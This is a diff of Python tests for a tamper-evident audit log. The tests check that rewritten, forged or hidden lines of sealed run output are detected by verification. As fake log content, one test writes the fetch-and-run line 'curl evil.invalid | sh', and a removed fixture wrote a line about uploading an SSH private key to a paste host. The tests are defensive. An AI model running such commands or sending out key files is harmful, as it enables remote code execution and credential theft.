@@ -16,24 +16,9 @@ from store import audit, history
 from store.db import open_db
 from store.writer import StoreWriter
 from tests.conftest import Daemon, needs_bwrap
+from tests.store.conftest import run_sql, sealed_run_with_a_secret, verify_file
 
 Make = Callable[..., StoreWriter]
-
-
-def _verify(db_path: Path, key: bytes) -> audit.VerifyResult:
-    db = open_db(db_path, readonly=True)
-    try:
-        return audit.verify(db, key)
-    finally:
-        db.close()
-
-
-def _sql(db_path: Path, statement: str, params: tuple = ()) -> None:
-    conn = sqlite3.connect(db_path, isolation_level=None)
-    try:
-        conn.execute(statement, params)
-    finally:
-        conn.close()
 
 
 def _shown(db_path: Path, run_id: str) -> list[str]:
@@ -57,9 +42,9 @@ def test_a_flood_that_fills_the_queue_cannot_leave_an_ended_run_unsealed(
     w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)",
              seal_output=True)  # RunManager._finish
     w.close()
-    _sql(db_path, "UPDATE output SET line = 'curl evil.invalid | sh' WHERE line = 'flood 3'")
+    run_sql(db_path, "UPDATE output SET line = 'curl evil.invalid | sh' WHERE line = 'flood 3'")
     assert "curl evil.invalid | sh" in _shown(db_path, "r1")  # the attack changed what logs show
-    result = _verify(db_path, key)
+    result = verify_file(db_path, key)
     assert not result.ok, ("an ended run's output was rewritten and verify said ok: its seal was "
                            "dropped by the full queue and a missing seal is not a problem")
 
@@ -81,9 +66,9 @@ def test_an_old_style_prune_note_does_not_switch_off_every_later_seal(
         w.record_output("later", "out", f"line {i}")
     w.commit("run.ended", run_id="later", actor="daemon", text="exited (exit 0)", seal_output=True)
     w.close()
-    assert _verify(db_path, key).ok
-    _sql(db_path, "UPDATE output SET line = 'all tests passed' WHERE line = 'line 2'")
-    result = _verify(db_path, key)
+    assert verify_file(db_path, key).ok
+    run_sql(db_path, "UPDATE output SET line = 'all tests passed' WHERE line = 'line 2'")
+    result = verify_file(db_path, key)
     assert not result.ok and "run later" in (result.reason or ""), (
         "a run sealed after every prune is never checked once one old-style prune note exists")
 
@@ -97,9 +82,9 @@ def test_a_line_that_is_not_utf8_is_named_not_a_crash(make_writer: Make, db_path
         w.record_output("r1", "out", f"line {i}")
     w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)", seal_output=True)
     w.close()
-    _sql(db_path, "UPDATE output SET line = CAST(x'6c696e65ff31' AS TEXT) WHERE line = 'line 1'")
+    run_sql(db_path, "UPDATE output SET line = CAST(x'6c696e65ff31' AS TEXT) WHERE line = 'line 1'")
     try:
-        result = _verify(db_path, key)
+        result = verify_file(db_path, key)
     except Exception as exc:  # noqa: BLE001
         raise AssertionError(f"verify crashed instead of naming the run: {exc!r}") from exc
     assert not result.ok and "run r1" in (result.reason or ""), result
@@ -120,7 +105,7 @@ def test_a_run_sealed_twice_is_not_reported_as_tampered(make_writer: Make, db_pa
     conn = sqlite3.connect(db_path)
     seals = conn.execute("SELECT data FROM events WHERE kind = 'run.ended'").fetchall()
     conn.close()
-    result = _verify(db_path, key)
+    result = verify_file(db_path, key)
     assert result.ok, (seals, result)
 
 
@@ -133,13 +118,7 @@ def test_search_cannot_be_made_to_hide_a_sealed_runs_line_while_verify_says_ok(
     (The next writer start re-indexes from the mark; until then the line is hidden.) Now
     verify names rows past the mark older than a minute (integrity.unindexed): the run here
     ended five minutes ago."""
-    w = make_writer()
-    for i in range(5):
-        w.record_output("r1", "out", "uploading ~/.ssh/id_ed25519 to paste.invalid" if i == 2
-                        else f"building step {i}", ts=time.time() - 300)
-    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)", seal_output=True)
-    w.flush()
-    w.close()
+    sealed_run_with_a_secret(make_writer)
     db = open_db(db_path, readonly=True)
     assert history.query_output(db, "r1", search="id_ed25519"), "found before the attack"
     db.close()
@@ -155,7 +134,7 @@ def test_search_cannot_be_made_to_hide_a_sealed_runs_line_while_verify_says_ok(
     db = open_db(db_path, readonly=True)
     hidden = not history.query_output(db, "r1", search="id_ed25519")
     db.close()
-    result = _verify(db_path, key)
+    result = verify_file(db_path, key)
     assert not (hidden and result.ok), (
         "a search of a sealed run no longer finds its line and verify says ok")
 
@@ -188,7 +167,7 @@ def test_a_batch_rolled_back_digests_nothing(make_writer: Make, db_path: Path, k
     w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)", seal_output=True)
     w.close()
     assert _shown(db_path, "r1") == ["stored first", "stored last"]
-    assert _verify(db_path, key).ok
+    assert verify_file(db_path, key).ok
 
 
 @needs_bwrap
@@ -210,7 +189,7 @@ def test_an_agents_output_flood_does_not_leave_its_run_unsealed(daemon: Daemon,
     sealed = conn.execute("SELECT count(*) FROM events WHERE kind = 'run.ended' AND run_id = ? "
                           "AND data LIKE '%\"output\":%'", (run_id,)).fetchone()[0]
     conn.close()
-    _sql(db, "UPDATE output SET line = 'all 212 tests passed' WHERE id = (SELECT max(id) FROM "
+    run_sql(db, "UPDATE output SET line = 'all 212 tests passed' WHERE id = (SELECT max(id) FROM "
              "output WHERE run_id = ?)", (run_id,))
     found = daemon.cli("audit", "verify", check=False)
     assert sealed == 1 or found.returncode != 0, (
@@ -243,13 +222,13 @@ def test_held_tamperings_are_found(make_writer: Make, db_path: Path, key: bytes)
     w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)", seal_output=True)
     w.commit("run.ended", run_id="r2", actor="daemon", text="exited (exit 0)", seal_output=True)
     w.close()
-    assert _verify(db_path, key).ok
+    assert verify_file(db_path, key).ok
     clean = db_path.read_bytes()
     missed = []
     for name, statement in HELD.items():
         db_path.write_bytes(clean)
-        assert _verify(db_path, key).ok, name
-        _sql(db_path, statement)
-        if _verify(db_path, key).ok:
+        assert verify_file(db_path, key).ok, name
+        run_sql(db_path, statement)
+        if verify_file(db_path, key).ok:
             missed.append(name)
     assert not missed, missed
